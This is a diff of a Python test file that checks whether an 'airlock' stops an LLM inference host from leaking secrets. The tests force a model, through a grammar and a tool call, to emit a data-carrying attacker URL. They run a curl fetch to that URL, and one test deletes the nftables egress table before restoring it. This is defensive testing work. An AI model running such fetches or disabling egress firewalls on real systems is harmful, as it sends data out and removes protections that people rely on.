@@ -4,19 +4,13 @@ of the inference host. The last case is the one that counts: the model does what
 
 from __future__ import annotations
 
-import json
 import secrets
-import shlex
-import subprocess
-import time
-from collections.abc import Iterator
-from contextlib import contextmanager
 from typing import TYPE_CHECKING, Any
 
 import pytest
 from testinfra.host import Host
 
-from ..conftest import SSH_CONFIG
+from ..conftest import witnessed
 
 if TYPE_CHECKING:
     from .conftest import House
@@ -47,27 +41,6 @@ TOOL = {
 FETCH = "curl --silent --output /dev/null --max-time 3 %s"
 
 
-@contextmanager
-def watched(*sources: str) -> Iterator[dict[str, int]]:
-    """Count on a host outside how many packets come from each of ``sources``; filled when it is over."""
-    seen: dict[str, int] = {}
-    command = shlex.join(["sudo", "python3", "-c", WITNESS, *sources])
-    with subprocess.Popen(
-        ["ssh", "-F", str(SSH_CONFIG), "wan", command],
-        stdin=subprocess.PIPE,
-        stdout=subprocess.PIPE,
-        stderr=subprocess.PIPE,
-        text=True,
-    ) as process:
-        assert process.stdout is not None
-        assert process.stdout.readline() == "ready\n"
-        yield seen
-        time.sleep(2)  # a connection that is not answered is tried again after one
-        out, err = process.communicate()
-    assert process.returncode == 0, err
-    seen |= json.loads(out)
-
-
 @pytest.fixture
 def url(intent: dict[str, Any]) -> str:
     """Return where the attacker wants a secret to be brought, long enough for a link that carries data."""
@@ -92,7 +65,8 @@ def test_whichever_layer_is_missing_nothing_leaves_the_house(
     theirs = client.check_output("hostname --all-ip-addresses").split()[0]
     # A grammar, so that even a model that would not obey does.
     form = {"type": "json_schema", "json_schema": {"name": "said", "schema": {"const": url}}}
-    with watched(*ours, theirs) as seen:
+    # A connection that is not answered is tried again after a second.
+    with witnessed(WITNESS, *ours, theirs, linger=2) as found:
         said = house.door(key).chat(ORDER.format(url), response_format=form, max_tokens=160)
         called = house.door(key).chat(ORDER.format(url), tools=[TOOL], max_tokens=32)
         client.check_output(FETCH, url)
@@ -103,6 +77,7 @@ def test_whichever_layer_is_missing_nothing_leaves_the_house(
         assert (said.status, called.status) == (200, 200), said.text + called.text
         assert (url in said.text) == (outcome == "said"), said.text
         assert ("[masked: link-with-data]" in said.text) == (outcome == "masked"), said.text
+    seen = found["seen"]
     assert {address: seen[address] for address in ours} == dict.fromkeys(ours, 0)
     assert seen[theirs] > 0, "the witness sees who does get there"
 
@@ -111,10 +86,10 @@ def test_the_witness_sees_the_inference_host_while_its_rules_are_gone(
     inference: Host, intent: dict[str, Any], url: str
 ) -> None:
     ours = intent["airlock_server_addresses"]
-    with watched(*ours) as seen:
+    with witnessed(WITNESS, *ours, linger=2) as found:
         inference.check_output("nft delete table inet airlock")
         try:
             inference.run(FETCH, url)
         finally:
             inference.check_output("systemctl reload airlock-egress")
-    assert sum(seen.values()) > 0
+    assert sum(found["seen"].values()) > 0
